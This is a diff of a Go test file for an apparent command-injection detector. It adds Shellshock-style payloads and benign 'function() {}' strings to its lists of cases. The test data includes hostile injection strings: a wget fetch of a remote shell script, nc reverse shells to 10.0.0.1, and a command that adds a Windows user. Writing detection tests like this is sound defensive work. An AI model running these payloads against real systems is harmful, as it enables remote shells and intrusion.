@@ -39,7 +39,7 @@ var checkCases = []struct {
 	{KindCmdInjection, []string{
 		";wget http://some_host/sh311.sh", "|getent+hosts+somehost.example.net.&", ";getent$IFS$9hosts",
 		"| set /a 3482*7301", "ax--exec=`id`--remote=origin", "cmd=127.0.0.1 && ls /etc",
-		"() { :; }; echo ; /bin/bash -c 'ls'", "$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
+		"() { :; }; echo ; /bin/bash -c 'ls'", "() { }; /bin/id", " () {}; echo vulnerable", "x=() { :;}; id", "$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
 		"`curl -L http://x.example`", "127.0.0.1; whoami", "a | nc -e /bin/sh 10.0.0.1 4444", "x; sleep$IFS5",
 		"echo $((3482*7301))", " ls /etc",
 		"127.0.0.1;id", "127.0.0.1|id", "1 || pwd", ";id", "report.pdf|id", "; sleep 10 ;", "||sleep 10||", "x & net user hacker P@ss /add", "1; sleep 10", "a.txt|sleep 10", "x;/bin/sh", "x & net user",
@@ -51,6 +51,7 @@ var checkCases = []struct {
 		"Q&A; who", "a/b; c/d", "x; /* comment */ y", "title|id", "name;email;id", "user|pwd", "Long day; sleep 10",
 		"Night routine: read; sleep 8", "Show: title | id", "Budget; net user licenses: 40", "30 days; net user fee included",
 		"We use nc for quick port checks",
+		"el.onclick = function() {};", "var f = function() {};", "use a function() {} placeholder",
 		"the `users` table and its `id` column", "Use `ls` to list files", "Type `whoami` to see your name",
 		"```bash\npip install example\n```", "Run `sort` then `uniq`.",
 		"cats && dogs", "Tom & Jerry", "rock & roll", "echo in the mirror", "curl and divergence",
